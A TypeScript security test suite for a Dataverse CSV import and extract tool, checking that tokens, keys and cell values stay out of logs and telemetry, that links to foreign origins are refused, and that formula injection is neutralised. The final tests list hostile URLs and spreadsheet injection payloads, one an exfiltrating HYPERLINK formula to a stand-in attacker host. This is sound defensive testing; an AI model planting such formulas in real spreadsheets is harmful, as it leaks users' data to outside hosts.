import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startStack, type Stack } from '../helpers/stack.js';
import { onImportEvent } from '../../src/app/import-handlers.js';
import { createRuntime, type Runtime } from '../../src/app/runtime.js';
import { tokenProvidersFor } from '../../src/app/dataverse.js';
import { loadSettings } from '../../src/config/settings.js';
import { createDataverseClient, emulatorTokenProvider, isLoopbackUrl } from '../../src/dataverse/index.js';
import type { Logger } from '../../src/logging.js';
import { drainConcurrently } from './helpers.js';
import { metrics } from '@opentelemetry/api';
import { logs } from '@opentelemetry/api-logs';
import { InMemoryLogRecordExporter, LoggerProvider, SimpleLogRecordProcessor } from '@opentelemetry/sdk-logs';
import { MeterProvider, MetricReader } from '@opentelemetry/sdk-metrics';
import { RUN_ID, withTelemetry } from '../../src/telemetry/run-telemetry.js';

/** Failed rows per code, counted from the run's errors.csv. */
async function failuresByCodeIn(stack: Stack, runId: string): Promise<Record<string, number>> {
  for await (const path of stack.runtime.results.list('')) {
    if (!path.endsWith(`${runId}/errors.csv`)) continue;
    const rows = parse((await stack.runtime.results.get(path))!, { bom: true, columns: true }) as Record<
      string,
      string
    >[];
    const counts: Record<string, number> = {};
    for (const row of rows) counts[row.code!] = (counts[row.code!] ?? 0) + 1;
    return counts;
  }
  throw new Error(`No errors.csv for ${runId}`);
}

class CollectingReader extends MetricReader {
  protected async onShutdown(): Promise<void> {}
  protected async onForceFlush(): Promise<void> {}
}

/** A logger that keeps every line as the host would print it: message plus JSON properties. */
function capturingLogger(): Logger & { lines: string[] } {
  const lines: string[] = [];
  const keep = (message: string, properties?: Readonly<Record<string, unknown>>) =>
    lines.push(properties ? `${message} ${JSON.stringify(properties)}` : message);
  return { lines, info: keep, warn: keep, error: keep };
}

async function allBlobText(stack: Stack): Promise<string[]> {
  const texts: string[] = [];
  for (const store of [stack.runtime.runs, stack.runtime.results]) {
    for await (const path of store.list(''))
      texts.push(`${path}\n${(await store.get(path))?.toString('utf8')}`);
  }
  return texts;
}

const TOKEN_USER = 'tokmarker7f3a9c';
const CELL_MARKER = 'cellmarker5d21e';

const richJob = {
  name: 'people',
  table: 'contact',
  operation: 'upsert',
  key: ['emailaddress1'],
  columns: {
    Email: 'emailaddress1',
    'First Name': 'firstname',
    'Last Name': 'lastname',
    Company: { attribute: 'parentcustomerid', lookup: 'account', by: 'accountnumber' },
    'Contact Method': { attribute: 'preferredcontactmethodcode', choice: 'label' },
  },
};

describe('secrets and personal data stay out of logs; links cannot steer the token', () => {
  let stack: Stack;
  beforeAll(async () => {
    // The run authenticates as a marker user: its token is `emulator:<marker>`.
    stack = await startStack({ profile: 'fast' }, { DATAVERSE_CLIENT_IDS: TOKEN_USER });
    await stack.putJob(richJob);
    stack.emulator.store.put('account', { name: 'Known', accountnumber: 'ACC-1' });
  });
  afterAll(async () => stack?.stop());

  /** Good rows and bad rows whose every cell carries the marker; the bad ones quote it in their reasons. */
  function markedCsv(prefix: string): string {
    const rows = [['Email', 'First Name', 'Last Name', 'Company', 'Contact Method']];
    for (let i = 0; i < 30; i += 1)
      rows.push([`${prefix}${i}@example.com`, `${CELL_MARKER}F`, `${CELL_MARKER}L`, 'ACC-1', 'Email']);
    rows.push([`${prefix}-a@example.com`, 'A', 'B', `${CELL_MARKER}-ACC`, 'Email']);
    rows.push([`${prefix}-b@example.com`, 'A', 'B', 'ACC-1', `${CELL_MARKER}-method`]);
    rows.push([`${prefix}-c@example.com`, 'A', `${CELL_MARKER}${'x'.repeat(60)}`, 'ACC-1', 'Email']);
    rows.push([`${CELL_MARKER}-not-an-email`, 'A', 'B', 'ACC-1', 'Email', 'ragged']);
    return stringify(rows);
  }

  async function importWith(
    runtime: Runtime,
    name: string,
    wrap: (log: Logger) => Logger = (log) => log,
  ): Promise<string[]> {
    const lines = capturingLogger();
    const log = wrap(lines);
    const event = await stack.dropFile('people', name, markedCsv(name.replace(/\W/g, '')));
    await onImportEvent(runtime, JSON.stringify(event), log);
    const drain = await drainConcurrently(stack, { runtime, log });
    expect(drain.summary?.rows).toMatchObject({ total: 34, failed: 4 });
    return lines.lines;
  }

  it('no token, key or connection string in any log line or result file of a run', async () => {
    const lines = await importWith(stack.runtime, 'tokens.csv');
    expect(lines.length).toBeGreaterThan(0);
    // The marker user really did the writes, so its token really was in use.
    expect(stack.emulator.stats().users.map((u) => u.user)).toContain(TOKEN_USER);
    const accountKey = /AccountKey=([^;]+)/.exec(stack.azurite.connectionString)?.[1];
    expect(accountKey).toBeTruthy();
    const haystack = [...lines, ...(await allBlobText(stack))];
    for (const text of haystack) {
      expect(text).not.toContain(`emulator:${TOKEN_USER}`);
      expect(text).not.toMatch(/Bearer\s/i);
      expect(text).not.toContain(accountKey);
      expect(text).not.toContain(stack.azurite.connectionString);
    }
  });

  it('no cell value in the logs unless LOG_CELL_VALUES=true, which then shows the failing rows', async () => {
    const quiet = await importWith(stack.runtime, 'quiet.csv');
    expect(quiet.some((line) => line.startsWith('Row failed'))).toBe(true);
    for (const line of quiet) expect(line).not.toContain(CELL_MARKER);

    const env = { ...stack.env, LOG_CELL_VALUES: 'true' };
    const debugging = createRuntime(loadSettings(env), env);
    const loud = await importWith(debugging, 'loud.csv');
    await debugging.client.close();
    expect(loud.filter((line) => line.includes(CELL_MARKER)).length).toBeGreaterThan(0);
  });

  it('telemetry (metrics and log records) carries no cell value, token or key, and each record names its run', async () => {
    const reader = new CollectingReader();
    metrics.setGlobalMeterProvider(new MeterProvider({ readers: [reader] }));
    const exporter = new InMemoryLogRecordExporter();
    logs.setGlobalLoggerProvider(
      new LoggerProvider({ processors: [new SimpleLogRecordProcessor({ exporter })] }),
    );
    const runtime = createRuntime(loadSettings(stack.env), stack.env);
    try {
      await importWith(runtime, 'telemetry.csv', (log) => withTelemetry(log));
    } finally {
      await runtime.client.close();
    }
    const records = exporter.getFinishedLogRecords();
    expect(records.some((r) => r.body === 'Row failed')).toBe(true);
    const runIds = new Set(records.map((r) => r.attributes[RUN_ID]));
    expect(runIds.size).toBe(1);
    expect([...runIds][0]).toMatch(/^r[0-9a-f]{24}$/);
    const { resourceMetrics } = await reader.collect();
    const exported = resourceMetrics.scopeMetrics.flatMap((scope) => scope.metrics);
    const rows = exported.find((m) => m.descriptor.name === 'dvpipe.run.rows');
    expect(rows?.dataPoints.map((p) => [p.attributes.outcome, p.attributes[RUN_ID], p.value])).toEqual([
      ['succeeded', [...runIds][0], 30],
      ['failed', [...runIds][0], 4],
    ]);
    const failures = exported.find((m) => m.descriptor.name === 'dvpipe.run.failures');
    expect(Object.fromEntries(failures?.dataPoints.map((p) => [p.attributes.code, p.value]) ?? [])).toEqual(
      await failuresByCodeIn(stack, [...runIds][0] as string),
    );
    expect(
      exported.find((m) => m.descriptor.name === 'dvpipe.dataverse.requests')?.dataPoints.length,
    ).toBeGreaterThan(0);
    const accountKey = /AccountKey=([^;]+)/.exec(stack.azurite.connectionString)?.[1] ?? '';
    const haystack = JSON.stringify([records.map((r) => [r.body, r.attributes]), exported]);
    expect(haystack).not.toContain(CELL_MARKER);
    expect(haystack).not.toContain(`emulator:${TOKEN_USER}`);
    expect(haystack).not.toMatch(/Bearer\s/i);
    expect(haystack).not.toContain(accountKey);
    // report.html follows the same rule as the logs (errors.csv beside it keeps the cells, by contract).
    const reports = (await allBlobText(stack)).filter((text) =>
      text.split('\n', 1)[0]!.endsWith('telemetry.csv/' + [...runIds][0] + '/report.html'),
    );
    expect(reports).toHaveLength(1);
    expect(reports[0]).toContain('StringTooLong');
    expect(reports[0]).not.toContain(CELL_MARKER);
  });

  describe('a link in an answer (nextLink, a stored deltaLink) never takes the token to another origin', () => {
    let org: Server;
    let elsewhere: Server;
    const seen: IncomingHttpHeaders[] = [];
    const urlOf = (server: Server) => `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    beforeAll(async () => {
      elsewhere = createServer((req, res) => {
        seen.push(req.headers);
        res.writeHead(200, { 'content-type': 'application/json' }).end('{"value":[]}');
      });
      org = createServer((req, res) => {
        res.writeHead(200, { 'content-type': 'application/json' });
        if (req.url?.includes('EntityDefinitions')) {
          const entity = {
            LogicalName: 'account',
            EntitySetName: 'accounts',
            PrimaryIdAttribute: 'accountid',
          };
          return void res.end(JSON.stringify({ ...entity, PrimaryNameAttribute: 'name' }));
        }
        // A hostile or compromised answer: the next page lives on another server.
        res.end(JSON.stringify({ value: [{ name: 'a' }], '@odata.nextLink': `${urlOf(elsewhere)}/steal` }));
      });
      await Promise.all([org, elsewhere].map((s) => new Promise<void>((r) => s.listen(0, '127.0.0.1', r))));
    });
    afterAll(async () => {
      await Promise.all([org, elsewhere].map((s) => new Promise((r) => s.close(r))));
    });

    it('refuses to follow it, and sends nothing there', async () => {
      const client = createDataverseClient({
        url: urlOf(org),
        tokenProviders: [emulatorTokenProvider(urlOf(org), TOKEN_USER)],
        retry: { maxRetries: 0 },
      });
      try {
        const rows: unknown[] = [];
        await expect(
          (async () => {
            for await (const row of client.query('account', { select: ['name'] }).rows()) rows.push(row);
          })(),
        ).rejects.toThrow(/Refused to send/);
        expect(rows).toHaveLength(1);
        const stored = client.delta(`${urlOf(elsewhere)}/api/data/v9.2/accounts?$deltatoken=1`);
        await expect(
          (async () => {
            for await (const row of stored.rows()) rows.push(row);
          })(),
        ).rejects.toThrow(/Refused to send/);
      } finally {
        await client.close();
      }
      expect(seen).toEqual([]);
    });
  });

  it('the emulator token is refused for every URL that is not loopback, however it is dressed up', () => {
    const hostile = [
      'https://contoso.crm.dynamics.com',
      'http://127.0.0.1.nip.io:8080',
      'http://localhost.evil.example',
      'http://127.0.0.1@evil.example',
      'http://evil.example/127.0.0.1',
      'http://0.0.0.0:5555',
      'http://[::ffff:7f00:1]:5555',
      'http://10.0.0.1',
      'not a url',
    ];
    for (const url of hostile) {
      expect(isLoopbackUrl(url), url).toBe(false);
      expect(() => emulatorTokenProvider(url, 'x'), url).toThrow();
    }
    // Only loopback URLs get emulator identities; anything else goes through @azure/identity.
    expect(tokenProvidersFor('https://contoso.crm.dynamics.com', [TOKEN_USER])[0]?.identity).toBe(TOKEN_USER);
    expect(tokenProvidersFor('http://evil.example', [])[0]?.identity).toBe('default');
    for (const url of ['http://127.0.0.1:1', 'http://localhost:1', 'http://[::1]:1', 'http://127.5.6.7:1']) {
      expect(isLoopbackUrl(url), url).toBe(true);
    }
  });

  it('formula injection is neutralised in extracts (dvpipe extract)', async () => {
    const payloads = [
      '=HYPERLINK("http://evil.example/?"&A1,"click")',
      '+SUM(1,2)',
      '-2+3',
      '@SUM(A1)',
      '\t=1+1',
      '\r=1+1',
    ];
    for (const [i, name] of payloads.entries())
      stack.emulator.store.put('account', { name, accountnumber: `F-${i}` });
    const dir = await mkdtemp(join(tmpdir(), 'reliability-extract-'));
    try {
      const jobFile = join(dir, 'accounts.json');
      await writeFile(
        jobFile,
        JSON.stringify({ name: 'accounts', table: 'account', columns: ['name', 'accountnumber'] }),
      );
      const out = join(dir, 'accounts.csv');
      const child = spawn(
        process.execPath,
        ['bin/dvpipe.js', 'extract', '--job', jobFile, '--url', stack.emulator.url, '--out', out],
        {
          stdio: ['ignore', 'ignore', 'pipe'],
        },
      );
      let stderr = '';
      child.stderr.on('data', (c: Buffer) => (stderr += c.toString()));
      const [code] = (await once(child, 'exit')) as [number | null];
      expect(code, stderr).toBe(0);
      const rows = parse(await readFile(out), { columns: true, bom: true }) as Record<string, string>[];
      for (const [i, payload] of payloads.entries()) {
        const cell = rows.find((r) => r.accountnumber === `F-${i}`)?.name;
        expect(cell, JSON.stringify(payload)).toBe(`'${payload}`);
      }
      // The report beside it holds counts, times and ranges: no cell of the table.
      const report = await readFile(join(dir, 'accounts.report.html'), 'utf8');
      expect(report).toContain('<table id="partitions">');
      expect(report).not.toContain('evil.example');
      expect(report).not.toContain('SUM(');
      for (const i of payloads.keys()) expect(report).not.toContain(`F-${i}`);
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });
});
